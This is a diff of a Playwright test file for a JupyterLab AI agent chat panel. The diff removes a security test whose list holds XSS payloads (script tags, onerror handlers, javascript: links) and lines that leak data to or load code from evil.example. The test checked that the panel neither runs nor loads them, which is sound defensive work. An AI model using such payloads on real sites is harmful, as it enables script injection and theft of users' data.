@@ -1,6 +1,5 @@
-"""The chat panel in real JupyterLab: typing, stopping, approving, scrolling, reloading; and nothing hostile runs."""
+"""The chat panel in real JupyterLab: typing, stopping, approving, scrolling, reloading."""
 
-import json
 import re
 
 import nbformat
@@ -240,82 +239,3 @@ def test_a_reloaded_page_shows_the_conversation_and_goes_on(lab):
     asks(page, "three")
     until_text(page, "last answer")
     assert "from a cell" in page.locator(".jp-Cell").last.inner_text()
-
-
-HOSTILE = [
-    "<script>window.hacked=1</script>",
-    "<img src=x onerror=window.hacked=1>",
-    "![leak](http://evil.example/?secret)",
-    "[x](javascript:window.hacked=1)",
-    "[x]: javascript:window.hacked=1\n\n[x]",
-    "<svg onload=window.hacked=1></svg>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<style>@import url(http://evil.example/a.css)</style>",
-    "<link rel=stylesheet href=http://evil.example/b.css>",
-    "<body onload=window.hacked=1><details open ontoggle=window.hacked=1>x</details>",
-    "</pre></details></div></style></textarea><script>window.hacked=1</script>",
-    "\"><img src=x onerror='window.hacked=1'>",
-    "<a href='data:text/html,<script>window.hacked=1</script>'>x</a>",
-    "<math><mtext></p><img src=x onerror=window.hacked=1></math>",
-    "<form action=http://evil.example><input autofocus onfocus=window.hacked=1></form>",
-    "$\\href{javascript:window.hacked=1}{x}$ \x1b[31mred \u202eabc",
-    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
-]
-
-
-def test_nothing_hostile_runs_or_loads(lab):
-    code = f'''
-import json
-hostile = json.loads({json.dumps(json.dumps(HOSTILE))})
-@tool
-def echo(text: str) -> str:
-    """Say it again."""
-    return text
-@tool
-def fail(text: str) -> str:
-    """Fail."""
-    raise ValueError(text)
-@tool(approve=True)
-def ask(text: str) -> str:
-    """Ask."""
-    return text
-calls = []
-for i, each in enumerate(hostile):
-    calls.append(FunctionCall(each, {{"text": each, each: each}}, f"unknown{{i}}"))
-    calls += [FunctionCall(name, {{"text": each}}, f"{{name}}{{i}}") for name in ("echo", "fail")]
-everything = "\\n\\n".join(hostile)
-agent = script(LLMResponse("", calls, "tool_calls", {{"thinking": everything}}), everything,
-               FunctionCall("ask", {{"text": everything}}, "q"), RuntimeError(everything))
-agent.provider._model = hostile[1]
-agent.limits = Limits()
-panel = ChatPanel(agent)
-panel'''
-    page = opened(lab, "hostile.ipynb", code, "panel.ask(everything)", "panel")
-    requests, alerts = [], []
-    page.on("request", lambda request: requests.append(request.url))
-    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
-    until(page, "() => document.querySelectorAll('.nbagent-panel .nbagent-foot').length >= 1")
-    panel = page.locator(".nbagent-panel").first
-    assert panel.locator("details").count() == 3 * len(HOSTILE) + 1
-    panel.locator("summary").evaluate_all("all => all.forEach(one => one.click())")
-    asks(page, "again")
-    until_text(page, "asks to run")
-    page.get_by_role("button", name="Edit", exact=True).first.click()
-    page.get_by_role("button", name="Deny", exact=True).first.click()
-    until_text(page, "RuntimeError")
-    page.get_by_role("tab", name="Trace").first.click()
-    until_text(page, "agent.trace.tool_calls")
-    page.get_by_role("tab", name="Setup").first.click()
-    other = page.get_by_placeholder("vendor:model").first
-    other.fill("<img src=x onerror=window.hacked=1>:m")
-    other.press("Enter")
-    until_text(page, "Unknown provider")
-    run_cell(page, 3)
-    until(page, "() => document.querySelectorAll('.nbagent-panel').length == 2")
-    page.wait_for_timeout(500)
-    assert page.evaluate("window.hacked") is None
-    assert not alerts
-    assert not [url for url in requests if not url.startswith((lab.url, "data:", "blob:"))]
-    inside = ".nbagent-panel :is(script, iframe, object, embed, link, form, svg, math, base, meta)"
-    assert page.locator(inside).count() == 0
-    assert page.locator(".nbagent-panel a[href^='javascript'], .nbagent-panel a[href^='data']").count() == 0
